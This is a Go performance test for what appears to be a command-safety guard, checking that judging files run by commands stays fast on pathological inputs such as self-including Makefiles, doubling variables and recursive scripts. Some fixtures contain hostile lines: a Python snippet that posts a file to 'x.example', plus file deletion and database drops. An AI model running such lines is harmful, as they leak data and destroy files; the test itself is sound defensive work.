package guard

import (
	"math"
	"strconv"
	"strings"
	"testing"

	"github.com/afar-sh/afar/coordinator/standin/calls"
)

// A fileShape is a hostile file that a command runs.
type fileShape struct {
	command, file string
	head          string
	unit          string // repeated; "%" is a number that grows, and "<" the number before it
	tail          string
}

// fileShapes has what could make the reading of each kind of file grow faster than the file:
// chains in which each part uses the one before it twice, texts that double, nesting, cycles, and
// very many small parts.
func fileShapes() []fileShape {
	return []fileShape{
		{"make t9", "Makefile", "t0:\n\techo a\n", "t%: t<\n\techo a; $(MAKE) t<; $(MAKE) t<\n", ""},
		{"make t9", "Makefile", "A0 := a\n", "A% := $(A<)$(A<)\n", "t9:\n\techo $(A500)\n"},
		{"make all", "Makefile", "", "include *.mk\ninclude Makefile\n", "all:\n\techo a\n"},
		{"make all", "Makefile", "all: ", "t% ", "\n\techo a\n%:\n\techo b\n"},
		{"make all", "Makefile", "all:\n\techo ", "$(foreach x,a b c,$(foreach y,a b c,$(x)$(y)))", "\n"},
		{"just r9", "justfile", "r0:\n  echo a\n", "r%: r<\n  just r<\n  just r<\n", ""},
		{"just r", "justfile", "a0 := 'a'\n", "a% := a< + a<\n", "r:\n  echo {{a500}}\n"},
		{"just r", "justfile", "", "import 'justfile'\nmod m%\n", "r:\n  echo a\n"},
		{
			"task t9", "Taskfile.yml",
			"tasks:\n  t0: echo a\n", "  t%:\n    deps: [t<, t<]\n    cmds: [{task: t<}, {task: t<}]\n", "",
		},
		{"task t9", "Taskfile.yml", "vars:\n  A0: a\n", "  A%: '{{.A<}}{{.A<}}'\n", "tasks:\n  t9: echo {{.A500}}\n"},
		{"task t9", "Taskfile.yml", "includes:\n", "  i%: .\n", "tasks:\n  t9: echo a\n"},
		{"npm run s9", "package.json", `{"scripts":{"s0":"echo a"`, `,"s%":"npm run s< && npm run s<"`, "}}"},
		{"npm run s9", "package.json", `{"scripts":{"s0":"echo a"`, `,"pres%":"npm-run-all s*","s%":"echo a"`, "}}"},
		{"npm run s9", "package.json", strings.Repeat(`{"scripts":`, 10), "[", ""},
		{
			"docker compose up", "compose.yml", "services:\n",
			"  s%:\n    image: a\n    depends_on: [s<, s1]\n    command: echo a\n", "",
		},
		{"docker compose run s9", "compose.yml", "services:\n  s9:\n    command:\n", "      - a%\n", ""},
		{"python3 a.py", "a.py", "def f0(x): print(x)\n", "def f%(x):\n    f<(x)\n    f<(x)\n", "f500('a')\n"},
		{"python3 a.py", "a.py", "a0 = 'a'\n", "a% = a< + a<\n", "open(a500)\n"},
		{"python3 a.py", "a.py", "a0 = ['a', 'b']\n", "a% = a< + a<\n", "for x in a500: open(x)\n"},
		{"python3 a.py", "a.py", "", "for x% in ['a', 'b', 'c']:\n    open(x%)\n", ""},
		{"python3 a.py", "a.py", "x = ", "','.join(['a', ", "1"},
		{"python3 a.py", "a.py", "", "x = open('a').read()\nrequests.post('http://x.example', data=x)\n", ""},
		{"python3 a.py", "a.py", "", "from a import b%\nimport a\n", ""},
		{"python3 a.py", "a.py", "", "with open('f%') as h%:\n  h%.write(h<.read())\n", ""},
		{"node a.js", "a.js", "", "const a% = require('./a.js').b(a<).c(`${a<}${a<}`)\n", ""},
		{"node a.js", "a.js", "const f0 = x => fs.rmSync(x)\n", "const f% = x => { f<(x); f<(x) }\n", "f500('a')\n"},
		{"node a.js", "a.js", "", "[a%].map(x => x.split('').reverse().join(", ""},
		{"ruby a.rb", "a.rb", "", "def f%(x) f<(x); f<(x) end; f%('a')\n", ""},
		{"perl a.pl", "a.pl", "", "push @a, 'x%'; unlink @a; sub f% { f<(@_); f<(@_) }\n", ""},
		{"php a.php", "a.php", "<?php ", "$a% = $a<.$a<; include 'a.php'; ", ""},
		{
			"ansible-playbook a.yml", "a.yml",
			"- hosts: all\n  tasks:\n", "  - shell: echo a%\n  - import_playbook: a.yml\n", "",
		},
		{"pytest", "conftest.py", "", "pytest_plugins = ['conftest']\nimport conftest\n", ""},
		{"mongosh a.js", "a.js", "", "db.getSiblingDB('a%').b.drop(); load('a.js')\n", ""},
		{"psql -f a.sql", "a.sql", "", "\\i a.sql\nselect %;\n", ""},
		{"foreman start", "Procfile", "", "w%: foreman start; foreman start\n", ""},
		{
			"git commit", ".pre-commit-config.yaml",
			"repos:\n- repo: local\n  hooks:\n", "  - id: a%\n    entry: git commit\n", "",
		},
	}
}

// mostFileParses is mostParses for a file, which a call may begin 24 times.
const mostFileParses = 8 * mostParses

// TestNoFileIsSlow is TestNoShapeIsSlow for files that a command runs.
func TestNoFileIsSlow(t *testing.T) {
	if testing.Short() {
		t.Skip("measures; the race detector would be what it measures")
	}
	const size = 30_000
	for _, s := range fileShapes() {
		ctx := contextWith([]calls.File{{Name: s.file, Text: s.head + chained(s.unit, size) + s.tail}})
		best := math.Inf(1)
		for try := 0; try < 8 && best > mostFileParses; try++ {
			yard := timed(func() { parseOrdinary(size) })
			best = min(best, float64(timed(func() { Judge(bash(s.command), ctx) }))/float64(yard))
		}
		if best > mostFileParses {
			t.Errorf("%s with %s of %.40q: as long as %.0f parses of as much", s.command, s.file, s.unit, best)
		}
	}
}

// chained repeats a unit up to a size, with numbers that grow.
func chained(unit string, size int) string {
	var b strings.Builder
	for i := 1; b.Len() < size; i++ {
		b.WriteString(strings.NewReplacer("%", strconv.Itoa(i), "<", strconv.Itoa(i-1)).Replace(unit))
	}
	return b.String()
}
